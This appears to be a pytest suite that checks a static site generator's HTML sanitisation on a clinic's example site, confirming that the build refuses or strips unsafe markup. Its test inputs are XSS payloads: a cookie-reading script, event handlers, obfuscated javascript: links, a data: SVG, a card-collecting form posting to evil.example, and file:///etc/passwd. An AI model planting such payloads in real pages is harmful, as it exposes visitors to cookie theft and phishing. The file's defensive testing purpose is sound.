"""The HTML policy on real builds of the example site: what an editor (or a hostile pull
request, built by Netlify with the site's secrets) writes into a text or site.yaml that
would run code on the site's pages. Active content stops the build at the file, line and
column that has it, with public/ left byte for byte as it was; markup the policy merely
does not allow is left out of the page, with a warning at its line. Every build is a real
process (run_bounded): no traceback, no hang."""

from __future__ import annotations

from pathlib import Path

from conftest import built_once, column_of, edit, line_of, run_bounded, snapshot

IOP = "content/programs/intensive-outpatient-program.md"
BEVERLY = "content/locations/beverly-hills.yaml"
HEADING = "## What is {{ short_name }}?"
IOP_PAGE = "beverly-hills/intensive-outpatient-program/index.html"


def add_to_body(site: Path, markdown: str) -> str:
    """Put `markdown` as a paragraph of its own before the IOP body's first heading."""
    return edit(site, IOP, HEADING, f"{markdown}\n\n{HEADING}")


def at(text: str, needle: str, name: str = IOP) -> str:
    return f"{name}:{line_of(text, needle)}:{column_of(text, needle)}"


def refused(site: Path, before: dict[str, bytes], *fragments: str) -> str:
    """Build as CI does: exit 1, every fragment said, public/ unchanged; stderr."""
    run = run_bounded(site)
    assert run.code == 1, f"exit {run.code}\n{run.out}\n{run.err}"
    for fragment in fragments:
        assert fragment in run.err, f"{fragment!r} not in:\n{run.err}"
    assert snapshot(site / "public") == before
    return run.err


def built(site: Path) -> str:
    """Build as CI does: it must succeed; its whole report (stdout and stderr)."""
    run = run_bounded(site)
    assert run.code == 0, run.err
    return run.out + run.err


def page(site: Path, name: str = IOP_PAGE) -> str:
    return (site / "public" / name).read_text(encoding="utf-8")


# --- active content in a text: an error at its place -----------------------------------------


def test_a_script_in_a_body_stops_the_build_at_its_line(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = add_to_body(example_site, "Hello <script>fetch('/x?'+document.cookie)</script>")
    refused(example_site, before, f"error: {at(text, '<script>')}: <script> is not allowed")


def test_a_script_in_a_faq_answer_is_refused_at_its_yaml_line(example_site, build_cli):
    before = built_once(example_site, build_cli)
    old = "hours of treatment a day on several days of the week."
    text = edit(example_site, IOP, old, old + "\n      <script>alert(1)</script>")
    refused(example_site, before, f"error: {IOP}:{line_of(text, '<script>')}:", "<script>")


def test_a_script_in_a_locations_about_is_refused_at_its_yaml_line(example_site, build_cli):
    before = built_once(example_site, build_cli)
    old = "daily lives.\n"
    text = edit(example_site, BEVERLY, old, old + "  <script>alert(1)</script>\n")
    refused(example_site, before, f"error: {BEVERLY}:{line_of(text, '<script>')}:", "<script>")


def test_an_onerror_handler_is_refused_at_its_column(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = add_to_body(example_site, '<img src="x" alt="x" onerror="alert(1)">')
    err = refused(example_site, before, f"error: {at(text, 'onerror')}: onerror= on <img>")
    assert "runs code" in err


def test_an_event_handler_from_an_attribute_list_is_refused(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = add_to_body(example_site, 'A paragraph.\n{: onclick="alert(1)" }')
    refused(example_site, before, f"error: {at(text, 'onclick')}: onclick= on <p>")


def test_a_javascript_link_in_markdown_is_refused(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = add_to_body(example_site, "[click here for help](javascript:alert(1))")
    refused(
        example_site,
        before,
        f"error: {at(text, 'javascript:')}: <a> points at 'javascript:alert(1)'",
        "'javascript:' is not allowed",
    )


def test_javascript_addresses_in_raw_html_are_refused_however_written(example_site, build_cli):
    before = built_once(example_site, build_cli)
    links = [
        '<a href="javascript:alert(1)">a</a>',
        '<a href="JaVaScRiPt:alert(2)">b</a>',
        '<a href="&#106;avascript:alert(3)">c</a>',
        '<a href="&#x6A;ava&#x09;script:alert(4)">d</a>',
        '<a href=" java&#10;script:alert(5)">e</a>',
    ]
    text = add_to_body(example_site, "\n".join(links))
    err = refused(example_site, before)
    # (a tab typed into the file is no threat: Markdown makes it spaces, and java  script:
    # is no scheme)
    for link in links:
        line = line_of(text, link)
        assert f"error: {IOP}:{line}:" in err, (link, err)
    assert err.count("the scheme 'javascript:'") == len(links)


def test_a_data_address_in_an_image_is_refused(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = add_to_body(example_site, '<img alt="x" src="data:image/svg+xml,<svg onload=alert(1)>">')
    refused(example_site, before, f"error: {IOP}:{line_of(text, 'data:')}:", "'data:' is not")


def test_a_style_element_a_form_an_object_and_svg_are_refused(example_site, build_cli):
    before = built_once(example_site, build_cli)
    parts = {
        "style": "<style>body { display: none }</style>",
        "form": '<form action="https://evil.example/"><input name="card"></form>',
        "object": '<object data="/x.swf"></object>',
        "svg": '<svg><a href="/"><text>hi</text></a></svg>',
    }
    text = add_to_body(example_site, "\n\n".join(parts.values()))
    refused(
        example_site,
        before,
        *(f"error: {at(text, f'<{tag}')}: <{tag}> is not allowed" for tag in parts),
    )


def test_a_variable_that_makes_an_address_javascript_is_refused(example_site, build_cli):
    """Values filled in are escaped, but an address made of a variable could still become
    javascript: (a location's name is the editor's too); it is checked on each page."""
    before = built_once(example_site, build_cli)
    edit(example_site, BEVERLY, "name: Beverly Hills", "name: 'javascript:alert(1)'")
    local = "content/locations/beverly-hills/intensive-outpatient-program.md"
    path = example_site / local
    text = path.read_text() + "\n[Where we are]({{ location_name }})\n"
    path.write_text(text)
    line = line_of(text, "[Where we are]")
    refused(example_site, before, f"error: {local}:{line}: ", "'javascript:alert(1)'")


def test_a_tag_between_table_rows_would_move_and_is_refused(example_site, build_cli):
    before = built_once(example_site, build_cli)
    table = "<table>\n{% if city %}\n<tr><td>{{ city }}</td></tr>\n{% endif %}\n</table>"
    text = add_to_body(example_site, table)
    refused(example_site, before, f"error: {IOP}:{line_of(text, '{% if city')}:", "moved")


# --- iframes: only from the hosts site.yaml lists ----------------------------------------


MAP = '<iframe src="https://www.google.com/maps/embed?pb=x" title="Map" loading="lazy"></iframe>'


def test_an_iframe_from_a_host_not_listed_is_refused(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = add_to_body(example_site, MAP.replace("www.google.com", "evil.example"))
    refused(example_site, before, f"error: {at(text, '<iframe')}:", "html.iframe_hosts")


def test_an_iframe_from_a_listed_host_is_kept_sandboxed(example_site, build_cli):
    edit(example_site, "site.yaml", "iframe_hosts: []", "iframe_hosts: [www.google.com]")
    add_to_body(
        example_site, MAP.replace('title="Map"', 'title="Map" sandbox="allow-top-navigation"')
    )
    built(example_site)
    html = page(example_site)
    assert 'src="https://www.google.com/maps/embed?pb=x"' in html
    assert 'sandbox="allow-scripts allow-same-origin allow-popups allow-presentation"' in html
    assert "allow-top-navigation" not in html
    headers = (example_site / "public" / "_headers").read_text()
    frame_src = headers.split("frame-src ", 1)[1].split(";", 1)[0]
    assert "https://www.google.com" in frame_src.split()  # the host, besides reCAPTCHA's


def test_an_iframe_host_must_be_a_host_name(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = edit(
        example_site,
        "site.yaml",
        "iframe_hosts: []",
        "iframe_hosts: ['https://www.google.com/maps']",
    )
    refused(example_site, before, f"site.yaml:{line_of(text, 'https://www.google')}:", "host name")


# --- what the policy merely does not allow: left out, with a warning ------------------------


def test_style_and_unknown_tags_are_left_out_with_a_warning_at_their_line(example_site):
    text = add_to_body(
        example_site, '<p style="position:fixed;top:0">Call now</p> <font color="red">Free!</font>'
    )
    report = built(example_site)
    assert f"warning: {at(text, 'style=')}: style= on <p> is not allowed" in report
    assert f"warning: {at(text, '<font')}: <font> is not allowed" in report
    html = page(example_site)
    assert "position:fixed" not in html and "<font" not in html
    assert "<p>Call now</p>" in html and "Free!" in html


def test_a_link_with_another_scheme_is_left_out_with_a_warning(example_site):
    text = add_to_body(example_site, "Our [old files](ftp://files.example.com/a).")
    report = built(example_site)
    assert f"warning: {at(text, 'ftp:')}: <a> points at 'ftp://files.example.com/a'" in report
    assert "ftp:" not in page(example_site)


# --- each finding at its own place, and a flood of them cheap ----------------------------------


def test_each_removal_is_placed_at_its_own_link_not_an_earlier_one_alike(example_site, build_cli):
    """A raw <a href> above Markdown links: each javascript: link is reported where it is,
    the second of two identical ones at the second."""
    before = built_once(example_site, build_cli)
    markdown = (
        'See <a href="/insurance/">insurance</a> first.\n\n'
        "Then [click](javascript:alert(1)) and [this](JaVaScRiPt:alert(2)).\n\n"
        "Again [click](javascript:alert(1))."
    )
    text = add_to_body(example_site, markdown)
    lines = text.split("\n")
    second = line_of(text, "Again [click]")
    column = lines[second - 1].index("javascript:alert(1)") + 1
    refused(
        example_site,
        before,
        f"error: {at(text, 'javascript:alert(1)')}: <a> points at 'javascript:alert(1)'",
        f"error: {at(text, 'JaVaScRiPt:alert(2)')}: <a> points at 'JaVaScRiPt:alert(2)'",
        f"error: {IOP}:{second}:{column}: <a> points at 'javascript:alert(1)'",
    )


def test_a_removed_attribute_is_placed_at_itself_not_at_a_kept_one(example_site):
    """Markdown tables' text-align style is kept: the warnings are at the two other styles."""
    cells = (
        '<table><tr><td style="text-align: left;">a</td><td style="text-align:left">b</td>'
        '<td style="color: red">c</td><td style="color:blue">d</td></tr></table>'
    )
    text = add_to_body(example_site, cells)
    report = built(example_site)
    for value in ("color: red", "color:blue"):
        place = at(text, f'style="{value}')
        assert f"warning: {place}: style='{value}' on <td> is not allowed" in report, report


def test_a_long_paste_full_of_styles_builds_with_twenty_warnings_and_a_count(example_site):
    """3,000 styled spans (a document pasted from a word processor): the page is built
    without the styles, in about the time of the text's conversion (placing each removal
    used to read the whole text again, and ran past the text's time limit); the first 20
    warnings are listed, then how many more."""
    spans = "\n".join(f'<span style="color:red">line {n}</span>' for n in range(3000))
    text = add_to_body(example_site, spans)
    run = run_bounded(example_site, limit=60)
    assert run.code == 0, run.err
    report = run.out + run.err
    assert report.count(": style= on <span>") == 20
    twentieth = 'style="color:red">line 19<'
    assert f"warning: {at(text, twentieth)}: style= on <span>" in report
    assert "and 2980 more of the same kind (markup the HTML policy leaves out)" in report
    assert "color:red" not in page(example_site)
    assert "line 2999" in page(example_site)


# --- site.yaml and data files: addresses refused at load time ----------------------------


def test_a_javascript_navigation_link_is_refused_at_its_line(example_site, build_cli):
    before = built_once(example_site, build_cli)
    old = "{title: Contact, url: /contact/}"
    text = edit(
        example_site, "site.yaml", old, "{title: Contact, url: 'javascript:alert(document.domain)'}"
    )
    refused(example_site, before, f"site.yaml:{line_of(text, 'javascript:')}:", "'javascript:'")


def test_an_obfuscated_navigation_scheme_is_refused(example_site, build_cli):
    before = built_once(example_site, build_cli)
    old = "{title: Contact, url: /contact/}"
    for url, said in [
        ('" JaVaScRiPt:alert(1)"', "'javascript:'"),
        ('"java\\tscript:alert(1)"', "control character"),
        ("'vbscript:msgbox(1)'", "'vbscript:'"),
        ("'data:text/html,<script>alert(1)</script>'", "'data:'"),
        ("'file:///etc/passwd'", "'file:'"),
    ]:
        text = edit(example_site, "site.yaml", old, f"{{title: Contact, url: {url}}}")
        refused(example_site, before, f"site.yaml:{line_of(text, 'title: Contact')}:", said)
        old = f"{{title: Contact, url: {url}}}"


def test_an_external_https_navigation_link_is_allowed(example_site):
    edit(
        example_site,
        "site.yaml",
        "{title: Contact, url: /contact/}",
        "{title: Contact, url: /contact/}\n  - {title: Call, url: 'tel:+13234578208'}",
    )
    built(example_site)
    assert 'href="tel:+13234578208"' in page(example_site, "index.html")


def test_image_fields_cannot_hold_an_address_of_another_scheme(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = edit(
        example_site,
        BEVERLY,
        "src: images/photos/beverly-hills.jpg",
        "src: 'javascript:alert(1)'",
    )
    refused(example_site, before, f"{BEVERLY}:{line_of(text, 'javascript:')}")


def test_a_profile_link_must_be_https(example_site, build_cli):
    before = built_once(example_site, build_cli)
    text = edit(
        example_site,
        "site.yaml",
        "  logo: images/logo.png\n",
        "  logo: images/logo.png\n  same_as: ['javascript:alert(1)//https://x.com/a']\n",
    )
    refused(example_site, before, f"site.yaml:{line_of(text, 'same_as')}")
